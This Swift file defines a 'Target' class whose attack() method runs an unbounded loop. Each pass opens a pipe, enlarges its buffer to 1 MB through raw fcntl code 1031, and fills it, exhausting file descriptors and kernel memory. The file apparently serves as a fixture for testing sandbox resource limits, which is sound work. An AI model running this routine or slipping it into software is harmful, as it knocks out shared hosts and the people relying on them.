import Glibc

public class Target {
    public init() {}

    public func attack() {
        var ends: [Int32] = [0, 0]
        let bytes = [UInt8](repeating: 1, count: 1 << 16)
        while pipe(&ends) == 0 {
            _ = fcntl(ends[1], F_SETFL, O_NONBLOCK)
            _ = fcntl(ends[1], 1031, 1 << 20)
            while write(ends[1], bytes, bytes.count) > 0 {}
        }
    }

    public func answer() { print("answered") }
}
